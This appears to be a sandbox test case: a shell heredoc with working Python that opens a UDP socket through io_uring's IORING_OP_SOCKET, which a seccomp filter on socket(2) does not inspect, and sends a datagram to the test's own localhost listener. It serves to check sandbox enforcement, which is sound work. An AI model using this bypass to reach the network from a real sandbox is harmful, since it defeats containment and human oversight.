# attack: make a UDP socket through io_uring (IORING_OP_SOCKET), where a
# seccomp filter on socket(2) does not look, then send a datagram from it to
# the test's listener on 127.0.0.1:$PORT.
# detected: the test's UDP listener counts the datagrams it receives.
"$PY" - <<'PYEOF'
import ctypes, mmap, os, socket, struct
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
SETUP, ENTER = 425, 426
params = ctypes.create_string_buffer(120)
fd = libc.syscall(SETUP, 4, params)
if fd < 0:
    raise SystemExit("io_uring_setup: " + os.strerror(ctypes.get_errno()))
(sq_entries, cq_entries, flags, sq_thread_cpu, sq_thread_idle, features, wq_fd) = struct.unpack_from("<7I", params, 0)
sq_off = struct.unpack_from("<7I", params, 40)   # head tail ring_mask ring_entries flags dropped array
cq_off = struct.unpack_from("<6I", params, 80)   # head tail ring_mask ring_entries overflow cqes
sq_ring = mmap.mmap(fd, sq_off[6] + sq_entries * 4, offset=0)
cq_ring = mmap.mmap(fd, cq_off[5] + cq_entries * 16, offset=0x8000000)
sqes = mmap.mmap(fd, sq_entries * 64, offset=0x10000000)
IORING_OP_SOCKET = 45
sqe = bytearray(64)
struct.pack_into("<BBHi", sqe, 0, IORING_OP_SOCKET, 0, 0, socket.AF_INET)  # opcode flags ioprio fd=domain
struct.pack_into("<Q", sqe, 8, socket.SOCK_DGRAM)                          # off = type
struct.pack_into("<I", sqe, 24, 0)                                         # len = protocol
sqes[0:64] = bytes(sqe)
tail = struct.unpack_from("<I", sq_ring, sq_off[1])[0]
mask = struct.unpack_from("<I", sq_ring, sq_off[2])[0]
struct.pack_into("<I", sq_ring, sq_off[6] + (tail & mask) * 4, 0)
struct.pack_into("<I", sq_ring, sq_off[1], tail + 1)
if libc.syscall(ENTER, fd, 1, 1, 1, 0, 0) < 0:
    raise SystemExit("io_uring_enter: " + os.strerror(ctypes.get_errno()))
head = struct.unpack_from("<I", cq_ring, cq_off[0])[0]
cmask = struct.unpack_from("<I", cq_ring, cq_off[2])[0]
user_data, res, cflags = struct.unpack_from("<QiI", cq_ring, cq_off[5] + (head & cmask) * 16)
if res < 0:
    raise SystemExit("IORING_OP_SOCKET: " + os.strerror(-res))
s = socket.socket(fileno=res)
s.sendto(b"hello from io_uring", ("127.0.0.1", int(os.environ["PORT"])))
print("sent from an io_uring socket")
PYEOF
